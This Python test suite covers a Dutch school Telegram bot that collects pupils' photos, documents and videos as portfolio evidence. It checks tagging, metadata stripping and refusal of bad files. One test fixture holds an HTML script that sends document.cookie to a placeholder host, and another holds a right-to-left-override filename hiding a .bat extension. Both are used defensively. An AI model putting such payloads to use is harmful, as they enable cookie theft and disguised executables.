"""Evidence end to end: sending work, tagging it on one card, and the portfolio."""

from __future__ import annotations

import io
from datetime import UTC, datetime, time
from zoneinfo import ZoneInfo

import pytest
from babel.dates import format_date
from PIL import Image
from pypdf import PdfReader, PdfWriter
from sqlalchemy import func, select, update

from conversations.parent_summary import summary_week
from handlers.portfolio import Look, ToggleShare
from storage.models import (
    Evidence,
    EvidenceFile,
    EvidenceGoal,
    EvidenceKind,
    Feedback,
    FeedbackTarget,
    MediaFile,
    MediaKind,
    Role,
    School,
)
from tests.factories import build_curriculum, give_goal
from tests.images import small_jpeg
from tests.videos import LOCATION, phone_mp4

FORCES = "Je kunt soorten krachten herkennen"
OWN_LEARNING = "Ik neem de regie over mijn eigen leren"


@pytest.fixture
async def pupil(running_bot, telegram, school, session_factory):
    """Sam, joined, with two goals this period."""
    curriculum = await build_curriculum(session_factory, school)
    for code in ("1.1a", "RN"):
        await give_goal(
            session_factory,
            pupil_id=school.persons["P1"],
            period_id=curriculum.period_id,
            goal_id=curriculum.goals[code],
        )
    user = await telegram.create_user("Sam")
    await user.send_text(f"/start {school.codes['P1']}")
    await user.wait_for_reply()
    user.curriculum = curriculum
    return user


async def count(session_factory, model) -> int:
    async with session_factory() as session:
        return await session.scalar(select(func.count()).select_from(model)) or 0


def stored_files(settings) -> list:
    return [path for path in settings.media_dir.rglob("*") if path.is_file()]


async def tag(pupil, card_id: int, *taps: str) -> dict:
    """Tap through the card; returns the card as the last tap left it."""
    edited: dict = {}
    for tap in taps:
        await pupil.press(tap, message_id=card_id)
        edited = await pupil.wait_for_edit(card_id)
    return edited


async def test_a_photo_is_tagged_on_one_card_and_saved_at_the_end(pupil, session_factory):
    await pupil.send_photo(small_jpeg((800, 600)))
    [card] = await pupil.wait_for_reply()
    assert "Bij welk doel" in card["text"] and "je foto" in card["text"]
    await tag(pupil, card["message_id"], FORCES, OWN_LEARNING, "Verder ➡️")
    assert await count(session_factory, Evidence) == 0  # nothing before the last tap
    await pupil.press("Nee", message_id=card["message_id"])
    place = await pupil.wait_for_edit(card["message_id"])
    assert "Waar heb je dit gemaakt?" in place["text"]
    sharing = await tag(pupil, card["message_id"], "🏠 Buiten school")
    # The school's default (not shared) is pre-marked.
    assert "Mogen je ouders dit zien?" in sharing["text"]
    labels = [b["text"] for row in sharing["reply_markup"]["inline_keyboard"] for b in row]
    assert "✅ Nee, alleen juf/meester" in labels
    done = await tag(pupil, card["message_id"], "Ja")
    assert "Bewaard in je portfolio" in done["text"] and "krachten herkennen" in done["text"]
    assert "Gedeeld met ouders" in done["text"]

    async with session_factory() as session:
        [evidence] = (await session.scalars(select(Evidence))).all()
        [file] = (await session.scalars(select(EvidenceFile))).all()
        goals = set((await session.scalars(select(EvidenceGoal.goal_id))).all())
        thumbnail = await session.get(MediaFile, file.thumbnail_file_id)
    assert evidence.kind == EvidenceKind.PHOTO and evidence.caption is None
    assert evidence.shared_with_parents is True and evidence.outside_school is True
    assert thumbnail is not None and thumbnail.kind == "thumbnail"
    assert goals == {pupil.curriculum.goals["1.1a"], pupil.curriculum.goals["RN"]}


async def test_an_album_becomes_one_item_with_one_dialogue(pupil, session_factory):
    colours = ("red", "green", "blue")
    await pupil.send_album([small_jpeg((300, 200), colour) for colour in colours], caption="Proef")
    [card] = await pupil.wait_for_reply()
    # The album's other photos join the card (edited to count them), no second card.
    await pupil.wait_until(
        lambda messages: any("3 foto's" in (m.get("text") or "") for m in messages)
    )
    await tag(pupil, card["message_id"], "Geen doel", "🏫 Op school", "✅ Nee, alleen juf/meester")
    [evidence] = await _all(session_factory, Evidence)
    files = await _all(session_factory, EvidenceFile)
    assert evidence.caption == "Proef"  # the album's caption skips the caption question
    assert evidence.media_group_id is not None and evidence.shared_with_parents is False
    assert sorted(file.position for file in files) == [0, 1, 2]
    assert await count(session_factory, EvidenceGoal) == 0
    bot_cards = [m for m in await pupil.messages() if "Bij welk doel" in (m.get("text") or "")]
    assert bot_cards == []  # the one card now says "Bewaard"


async def _all(session_factory, model) -> list:
    async with session_factory() as session:
        return list((await session.scalars(select(model))).all())


def report_pdf() -> bytes:
    """A two-page report whose properties and XMP name its author."""
    writer = PdfWriter()
    writer.add_blank_page(300, 200)
    writer.add_blank_page(300, 200)
    writer.add_metadata({"/Author": "Juf Geheim"})
    writer.xmp_metadata = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">Juf Geheim</x:xmpmeta>'
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


async def test_a_pdf_is_kept_as_a_document_without_its_author(pupil, settings, session_factory):
    pdf = report_pdf()
    assert b"Juf Geheim" in pdf
    await pupil.send_document(pdf, "verslag.pdf", "application/pdf")
    [card] = await pupil.wait_for_reply()
    assert "je bestand" in card["text"]
    await pupil.press(FORCES, message_id=card["message_id"])
    await pupil.wait_for_edit(card["message_id"])
    await tag(pupil, card["message_id"], "Verder ➡️")
    await pupil.send_text("Mijn verslag over krachten")
    [place] = await pupil.wait_for_reply()
    await tag(pupil, place["message_id"], "🏫 Op school", "Ja")
    [evidence] = await _all(session_factory, Evidence)
    [file] = await _all(session_factory, EvidenceFile)
    assert evidence.kind == EvidenceKind.DOCUMENT
    assert evidence.caption == "Mijn verslag over krachten"
    assert file.original_name == "verslag.pdf" and file.thumbnail_file_id is None
    await pupil.send_text("/portfolio")
    [portfolio] = await pupil.wait_for_reply()
    assert "Mijn verslag over krachten" in portfolio["text"]
    await pupil.press("📎 Open", message_id=portfolio["message_id"])
    [sent] = await pupil.wait_for_reply()
    assert sent["document"]["file_name"] == "verslag.pdf"
    kept = await pupil.client.download(sent["document"]["file_id"])
    assert b"Juf Geheim" not in kept and len(PdfReader(io.BytesIO(kept)).pages) == 2
    assert [path.read_bytes() for path in stored_files(settings)] == [kept]


async def test_a_phone_photo_sent_as_a_file_loses_its_gps(pupil, settings, session_factory):
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (52.0, 22.0, 12.0), 3: "E", 4: (4.0, 53.0, 30.0)}
    buffer = io.BytesIO()
    Image.new("RGB", (640, 480), "purple").save(buffer, format="JPEG", exif=exif.tobytes())
    assert Image.open(io.BytesIO(buffer.getvalue())).getexif().get_ifd(0x8825)
    await pupil.send_document(buffer.getvalue(), "IMG_2041.jpg", "image/jpeg")
    [card] = await pupil.wait_for_reply()
    await tag(pupil, card["message_id"], "Geen doel")
    await pupil.press("Nee", message_id=card["message_id"])
    await pupil.wait_for_edit(card["message_id"])
    await tag(pupil, card["message_id"], "🏫 Op school", "Ja")
    [evidence] = await _all(session_factory, Evidence)
    assert evidence.kind == EvidenceKind.PHOTO
    images = [path for path in stored_files(settings) if path.suffix == ".jpg"]
    assert len(images) == 2  # the cleaned image and its thumbnail
    for path in images:
        with Image.open(path) as stored:
            assert not stored.getexif() and "exif" not in stored.info


@pytest.mark.parametrize(
    ("data", "name", "mime", "phrase"),
    [
        (b"this is only text, renamed", "werk.jpg", "image/jpeg", "geen foto"),
        (b"\x89PNG\r\n\x1a\n" + bytes(40), "werk.png", "image/png", "kapot"),
        (b"", "leeg.pdf", "application/pdf", "leeg"),
    ],
)
async def test_refused_files_get_a_clear_answer_and_nothing_is_kept(
    pupil, settings, session_factory, data, name, mime, phrase
):
    await pupil.send_document(data, name, mime)
    [answer] = await pupil.wait_for_reply()
    assert phrase in answer["text"].lower()
    assert await count(session_factory, Evidence) == 0
    assert await count(session_factory, MediaFile) == 0
    assert stored_files(settings) == []


async def test_a_web_page_is_refused_kindly_and_nothing_is_kept(pupil, settings, session_factory):
    page = b"<html><body><script>fetch('https://x.example/?' + document.cookie)</script>"
    await pupil.send_document(page, "evil.html", "text/html")
    [answer] = await pupil.wait_for_reply()
    assert "code" in answer["text"] and "Stuur je werk als foto, PDF" in answer["text"]
    assert await count(session_factory, Evidence) == 0
    assert await count(session_factory, MediaFile) == 0
    assert stored_files(settings) == []


async def test_a_file_name_that_hides_its_extension_reaches_the_teacher_clean(
    pupil, telegram, school, settings, session_factory
):
    # Shown as "verslagtab.txt": the right-to-left override turns "txt.bat" around.
    await pupil.send_document(b"Mijn verslag over krachten\n", "verslag\u202etxt.bat", "text/plain")
    [card] = await pupil.wait_for_reply()
    assert "je bestand" in card["text"]
    await tag(pupil, card["message_id"], "Geen doel", "Nee", "🏫 Op school")
    await tag(pupil, card["message_id"], "✅ Nee, alleen juf/meester")
    [file] = await _all(session_factory, EvidenceFile)
    assert file.original_name == "verslagtxt.txt"

    teacher = await join(telegram, school, "T1", "Anouk")
    await teacher.send_text("/werk")
    [review] = await teacher.wait_for_reply()
    await teacher.press("📎 Open", message_id=review["message_id"])
    [seen] = await teacher.wait_for_reply()
    assert seen["document"]["file_name"] == "verslagtxt.txt"
    assert await telegram.download(seen["document"]["file_id"]) == b"Mijn verslag over krachten\n"


async def test_a_broken_photo_is_refused(pupil, settings, session_factory):
    jpeg = small_jpeg((400, 300))
    await pupil.send_document(jpeg[: len(jpeg) // 2], "half.jpg", "image/jpeg")
    [answer] = await pupil.wait_for_reply()
    assert "niet helemaal" in answer["text"] or "kapot" in answer["text"]
    assert stored_files(settings) == []


async def test_cancelling_mid_tagging_keeps_no_rows(pupil, session_factory):
    await pupil.send_photo(small_jpeg())
    [card] = await pupil.wait_for_reply()
    await tag(pupil, card["message_id"], "Geen doel")
    await pupil.send_text("/annuleer")
    [stopped] = await pupil.wait_for_reply()
    assert "gestopt" in stopped["text"].lower()
    assert await count(session_factory, Evidence) == 0
    assert await count(session_factory, MediaFile) == 0
    query = await pupil.press("Nee", message_id=card["message_id"])
    answer = await pupil.wait_for_callback_answer(query["id"])
    assert answer["show_alert"]


async def test_a_restart_mid_tagging_resumes(pupil, running_bot, session_factory):
    await pupil.send_voice(b"OggS\x00\x02" + bytes(22) + b"OpusHead" + bytes(200), duration=4)
    [card] = await pupil.wait_for_reply()
    assert "spraakbericht" in card["text"]
    await tag(pupil, card["message_id"], "Geen doel", "Nee")
    await running_bot.restart()
    await tag(pupil, card["message_id"], "🏫 Op school", "✅ Nee, alleen juf/meester")
    [evidence] = await _all(session_factory, Evidence)
    assert evidence.kind == EvidenceKind.VOICE


async def test_typing_at_a_button_step_re_asks(pupil, session_factory):
    await pupil.send_photo(small_jpeg())
    await pupil.wait_for_reply()
    await pupil.send_text("krachten")
    hint, again = await pupil.wait_for_reply(count=2)
    assert "knoppen" in hint["text"] and "Bij welk doel" in again["text"]
    await pupil.send_photo(small_jpeg(color="red"))
    busy, again = await pupil.wait_for_reply(count=2)
    assert "nog bezig" in busy["text"]


async def test_a_teacher_sending_a_photo_gets_a_friendly_pointer(
    running_bot, telegram, school, session_factory
):
    teacher = await telegram.create_user("Anouk")
    await teacher.send_text(f"/start {school.codes['T1']}")
    await teacher.wait_for_reply()
    await teacher.send_photo(small_jpeg())
    [answer] = await teacher.wait_for_reply()
    assert "leerlingen" in answer["text"]
    assert await count(session_factory, Evidence) == 0


async def save_photo(pupil, colour: str = "orange") -> None:
    await pupil.send_photo(small_jpeg((320, 240), colour))
    [card] = await pupil.wait_for_reply()
    await tag(pupil, card["message_id"], FORCES, "Verder ➡️", "Nee", "🏫 Op school")
    await tag(pupil, card["message_id"], "✅ Nee, alleen juf/meester")


async def test_the_portfolio_shows_toggles_and_deletes(pupil, settings, session_factory):
    await pupil.send_text("/portfolio")
    [empty] = await pupil.wait_for_reply()
    assert "leeg" in empty["text"]
    await save_photo(pupil, "orange")
    await save_photo(pupil, "navy")
    await pupil.send_text("🗂 Portfolio")
    [card] = await pupil.wait_for_reply()
    assert "1 van 2" in card["text"] and "krachten herkennen" in card["text"]
    assert "Alleen voor school" in card["text"]

    await pupil.press("👨‍👩‍👧 Deel met ouders", message_id=card["message_id"])
    shared = await pupil.wait_for_edit(card["message_id"])
    assert "Gedeeld met ouders" in shared["text"]
    newest, oldest = sorted(await _all(session_factory, Evidence), key=lambda e: -e.id)
    assert newest.shared_with_parents and not oldest.shared_with_parents

    await pupil.press("📷 Bekijk", message_id=card["message_id"])
    [photo] = await pupil.wait_for_reply()
    assert "photo" in photo

    await pupil.press("Ouder ▶️", message_id=card["message_id"])
    second = await pupil.wait_for_edit(card["message_id"])
    assert "2 van 2" in second["text"]
    await pupil.press("🗑 Verwijder", message_id=card["message_id"])
    sure = await pupil.wait_for_edit(card["message_id"])
    assert "Weet je het zeker?" in sure["text"]
    before = set(stored_files(settings))
    await pupil.press("🗑 Ja, verwijder", message_id=card["message_id"])
    after_delete = await pupil.wait_for_edit(card["message_id"])
    assert "1 van 1" in after_delete["text"]
    [left] = await _all(session_factory, Evidence)
    assert left.id == newest.id
    assert len(await _all(session_factory, EvidenceFile)) == 1
    assert len(await _all(session_factory, MediaFile)) == 2
    assert len(before - set(stored_files(settings))) == 2  # the deleted item's image+thumbnail


async def test_a_forged_evidence_id_gets_an_alert_and_changes_nothing(
    pupil, telegram, school, session_factory
):
    await save_photo(pupil)
    [evidence] = await _all(session_factory, Evidence)
    noor = await telegram.create_user("Noor")
    await noor.send_text(f"/start {school.codes['P2']}")
    await noor.wait_for_reply()
    await noor.send_text("/portfolio")
    [card] = await noor.wait_for_reply()
    for data in (
        ToggleShare(evidence_id=evidence.id, offset=0, goal_id=0).pack(),
        Look(evidence_id=evidence.id).pack(),
    ):
        query = await noor.press_raw(card["message_id"], data)
        answer = await noor.wait_for_callback_answer(query["id"])
        assert answer["show_alert"] and "ken ik niet" in answer["text"]
    [unchanged] = await _all(session_factory, Evidence)
    assert unchanged.shared_with_parents is False


async def test_the_school_default_is_pre_marked(pupil, school, session_factory):
    async with session_factory() as session, session.begin():
        row = await session.get(School, school.school_id)
        assert row is not None
        row.evidence_shared_by_default = True
    await pupil.send_photo(small_jpeg())
    [card] = await pupil.wait_for_reply()
    await tag(pupil, card["message_id"], "Geen doel", "Nee")
    sharing = await tag(pupil, card["message_id"], "🏫 Op school")
    labels = [b["text"] for row in sharing["reply_markup"]["inline_keyboard"] for b in row]
    assert "✅ Ja" in labels


async def test_too_large_and_animated_files_are_refused(pupil, settings, session_factory):
    await pupil.send_document(
        b"%PDF-1.4\n" + bytes(21 * 1024 * 1024), "groot.pdf", "application/pdf"
    )
    [too_large] = await pupil.wait_for_reply()
    assert "te groot" in too_large["text"]
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "blue")]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="GIF", save_all=True, append_images=frames[1:], duration=100)
    await pupil.send_document(buffer.getvalue(), "dans.gif", "image/gif")
    [animated] = await pupil.wait_for_reply()
    assert "Bewegende plaatjes" in animated["text"]
    assert await count(session_factory, Evidence) == 0
    assert stored_files(settings) == []


async def test_caption_goals_and_the_goal_filter_from_the_portfolio(pupil, session_factory):
    await save_photo(pupil, "orange")
    await pupil.send_photo(small_jpeg((320, 240), "navy"))
    [card] = await pupil.wait_for_reply()
    await tag(pupil, card["message_id"], "Geen doel", "Nee", "🏫 Op school")
    await tag(pupil, card["message_id"], "✅ Nee, alleen juf/meester")

    await pupil.send_text("/portfolio")
    [portfolio] = await pupil.wait_for_reply()
    assert "Geen doel" in portfolio["text"]  # the newest: the navy photo
    await pupil.press("✏️ Bijschrift", message_id=portfolio["message_id"])
    [ask] = await pupil.wait_for_reply()
    assert "bijschrift" in ask["text"]
    await pupil.send_text("Tekening van een veer")
    [changed] = await pupil.wait_for_reply()
    assert "Aangepast" in changed["text"]
    await pupil.press("🗂 Terug naar je portfolio", message_id=changed["message_id"])
    [again] = await pupil.wait_for_reply()
    assert "Tekening van een veer" in again["text"] and "1 van 2" in again["text"]

    await pupil.press("🎯 Doelen", message_id=again["message_id"])
    [goals] = await pupil.wait_for_reply()
    await tag(pupil, goals["message_id"], OWN_LEARNING)
    done = await tag(pupil, goals["message_id"], "Verder ➡️")
    assert "Aangepast" in done["text"]

    await pupil.press("🔎 Per doel", message_id=again["message_id"])
    choose = await pupil.wait_for_edit(again["message_id"])
    assert "Van welk doel" in choose["text"]
    await pupil.press(FORCES, message_id=again["message_id"])
    only = await pupil.wait_for_edit(again["message_id"])
    assert "1 van 1" in only["text"] and "Alleen:" in only["text"]
    async with session_factory() as session:
        rows = (
            await session.execute(
                select(Evidence.caption, EvidenceGoal.goal_id).join(
                    EvidenceGoal, EvidenceGoal.evidence_id == Evidence.id
                )
            )
        ).all()
    assert sorted(rows, key=str) == sorted(
        [
            (None, pupil.curriculum.goals["1.1a"]),
            ("Tekening van een veer", pupil.curriculum.goals["RN"]),
        ],
        key=str,
    )


async def test_the_card_shows_the_date_and_the_tops_and_tips(pupil, school, session_factory):
    await save_photo(pupil)
    [evidence] = await _all(session_factory, Evidence)
    async with session_factory() as session, session.begin():
        session.add(
            Feedback(
                author_role=Role.TEACHER,
                target=FeedbackTarget.EVIDENCE,
                pupil_id=school.persons["P1"],
                evidence_id=evidence.id,
                top="Wat een <nette> tekening",
                tip="Zet er de eenheid bij",
            )
        )
    await pupil.send_text("/portfolio")
    [card] = await pupil.wait_for_reply()
    today = datetime.now(ZoneInfo("Europe/Amsterdam")).date()
    assert format_date(today, format="long", locale="nl") in card["text"]
    assert "Top: Wat een <nette> tekening" in card["text"]
    assert "Tip: Zet er de eenheid bij" in card["text"]


# --- videos ------------------------------------------------------------------------------------


async def join(telegram, school, external_id: str, name: str):
    user = await telegram.create_user(name)
    await user.send_text(f"/start {school.codes[external_id]}")
    await user.wait_for_reply()
    return user


async def share_the_card(pupil, card: dict) -> dict:
    """Goal, no caption, at school, shared with parents: the card as it ends."""
    await tag(pupil, card["message_id"], FORCES, "Verder ➡️", "Nee", "🏫 Op school")
    return await tag(pupil, card["message_id"], "Ja")


async def into_this_summary_week(session_factory) -> None:
    """On a Monday /overzicht is about last week: the work moves there, as if made then."""
    today = datetime.now(ZoneInfo("Europe/Amsterdam"))
    monday = summary_week(today.date())
    moment = min(datetime.combine(monday, time(10), tzinfo=today.tzinfo), today)
    async with session_factory() as session, session.begin():
        await session.execute(update(Evidence).values(created_at=moment.astimezone(UTC)))


async def parents_summary(telegram, school, kind: str) -> tuple[object, dict]:
    parent = await join(telegram, school, "O1", "Marieke")
    await parent.send_text("/overzicht")
    messages = await parent.wait_until(lambda ms: any(kind in m for m in ms), timeout=10)
    [sent] = [m for m in messages if kind in m]
    return parent, sent


async def test_a_video_is_tagged_on_one_card_shown_and_shared_with_the_parent(
    pupil, telegram, school, settings, session_factory
):
    source = phone_mp4(seconds=7)
    await pupil.send_video(
        source, duration=7, width=640, height=360, thumbnail=small_jpeg((640, 360), "green")
    )
    [card] = await pupil.wait_for_reply()
    assert "Bij welk doel" in card["text"] and "je video" in card["text"]
    done = await share_the_card(pupil, card)
    assert "Bewaard in je portfolio" in done["text"] and "Gedeeld met ouders" in done["text"]

    [evidence] = await _all(session_factory, Evidence)
    [file] = await _all(session_factory, EvidenceFile)
    async with session_factory() as session:
        video = await session.get(MediaFile, file.media_file_id)
        thumbnail = await session.get(MediaFile, file.thumbnail_file_id)
    assert evidence.kind == EvidenceKind.VIDEO and evidence.shared_with_parents
    assert video is not None and video.kind == MediaKind.VIDEO and video.duration_seconds == 7
    assert (video.width, video.height) == (640, 360)
    assert thumbnail is not None and thumbnail.kind == MediaKind.THUMBNAIL
    assert max(thumbnail.width or 0, thumbnail.height or 0) <= 320
    [kept] = [path.read_bytes() for path in stored_files(settings) if path.suffix == ".mp4"]
    assert LOCATION not in kept and b"iPhone" not in kept and len(kept) == len(source)

    await pupil.send_text("/portfolio")
    [portfolio] = await pupil.wait_for_reply()
    assert "🎬" in portfolio["text"] and "krachten herkennen" in portfolio["text"]
    await pupil.press("🎬 Bekijk", message_id=portfolio["message_id"])
    [shown] = await pupil.wait_for_reply()
    assert shown["video"]["duration"] == 7
    assert await pupil.client.download(shown["video"]["file_id"]) == kept

    await into_this_summary_week(session_factory)
    _parent, sent = await parents_summary(telegram, school, "video")
    assert "krachten herkennen" in (sent.get("caption") or "")
    assert await telegram.download(sent["video"]["file_id"]) == kept


async def test_a_round_video_message_is_kept_and_comes_back_round(
    pupil, telegram, school, settings, session_factory
):
    await pupil.send_video_note(phone_mp4(seconds=12), duration=12, length=240)
    [card] = await pupil.wait_for_reply()
    assert "je video" in card["text"]
    await share_the_card(pupil, card)
    [evidence] = await _all(session_factory, Evidence)
    [file] = await _all(session_factory, EvidenceFile)
    assert evidence.kind == EvidenceKind.VIDEO and file.thumbnail_file_id is None

    await pupil.send_text("/portfolio")
    [portfolio] = await pupil.wait_for_reply()
    await pupil.press("🎬 Bekijk", message_id=portfolio["message_id"])
    [shown] = await pupil.wait_for_reply()
    assert shown["video_note"]["length"] == 240 and shown["video_note"]["duration"] == 12

    teacher = await join(telegram, school, "T1", "Anouk")
    await teacher.send_text("/werk")
    [review] = await teacher.wait_for_reply()
    assert "🎬" in review["text"]
    await teacher.press("🎬 Bekijk", message_id=review["message_id"])
    [seen] = await teacher.wait_for_reply()
    assert "video_note" in seen

    await into_this_summary_week(session_factory)
    await parents_summary(telegram, school, "video_note")


async def test_a_video_sent_as_a_file_is_a_video_and_the_teacher_sees_its_thumbnail(
    pupil, telegram, school, settings, session_factory
):
    await pupil.send_document(phone_mp4(), "proef.mp4", "video/mp4")
    [card] = await pupil.wait_for_reply()
    assert "je video" in card["text"]
    await tag(pupil, card["message_id"], "Geen doel", "Nee", "🏫 Op school")
    await tag(pupil, card["message_id"], "✅ Nee, alleen juf/meester")
    [evidence] = await _all(session_factory, Evidence)
    [file] = await _all(session_factory, EvidenceFile)
    assert evidence.kind == EvidenceKind.VIDEO and file.original_name == "proef.mp4"
    [kept] = [path.read_bytes() for path in stored_files(settings)]
    assert LOCATION not in kept

    teacher = await join(telegram, school, "T1", "Anouk")
    await teacher.send_text("/werk")
    [review] = await teacher.wait_for_reply()
    await teacher.press("🎬 Bekijk", message_id=review["message_id"])
    [seen] = await teacher.wait_for_reply()
    assert seen["video"]["file_name"] == "proef.mp4"


async def test_a_video_with_its_thumbnail_gives_the_teacher_a_picture_card(
    pupil, telegram, school, session_factory
):
    await pupil.send_video(phone_mp4(), duration=7, thumbnail=small_jpeg((320, 240), "navy"))
    [card] = await pupil.wait_for_reply()
    await share_the_card(pupil, card)
    teacher = await join(telegram, school, "T1", "Anouk")
    await teacher.send_text("/werk")
    [review] = await teacher.wait_for_reply()
    assert "photo" in review and "🎬" in review["caption"]


async def test_a_video_longer_than_the_limit_is_refused_kindly(pupil, settings, session_factory):
    assert settings.max_video_seconds == 120
    await pupil.send_video(phone_mp4(seconds=300), duration=300, thumbnail=small_jpeg())
    [answer] = await pupil.wait_for_reply()
    assert "te lang" in answer["text"] and "2 minuten" in answer["text"]
    assert await count(session_factory, Evidence) == 0
    assert await count(session_factory, MediaFile) == 0
    assert stored_files(settings) == []


async def test_a_video_file_that_says_it_is_too_long_is_refused(pupil, settings, session_factory):
    await pupil.send_document(phone_mp4(seconds=600), "lang.mp4", "video/mp4")
    [answer] = await pupil.wait_for_reply()
    assert "te lang" in answer["text"]
    assert stored_files(settings) == []


async def test_a_video_over_telegrams_download_limit_is_refused(pupil, settings, session_factory):
    big = phone_mp4(padding=21 * 1024 * 1024)
    await pupil.send_video(big, duration=30)
    [answer] = await pupil.wait_for_reply()
    assert "te groot" in answer["text"]
    assert await count(session_factory, Evidence) == 0
    assert stored_files(settings) == []


async def test_a_broken_video_is_refused_and_nothing_is_kept(pupil, settings, session_factory):
    broken = phone_mp4()[:200]  # cut off inside its moov
    await pupil.send_video(broken, duration=7)
    [answer] = await pupil.wait_for_reply()
    assert "niet goed lezen" in answer["text"]
    assert await count(session_factory, MediaFile) == 0
    assert stored_files(settings) == []
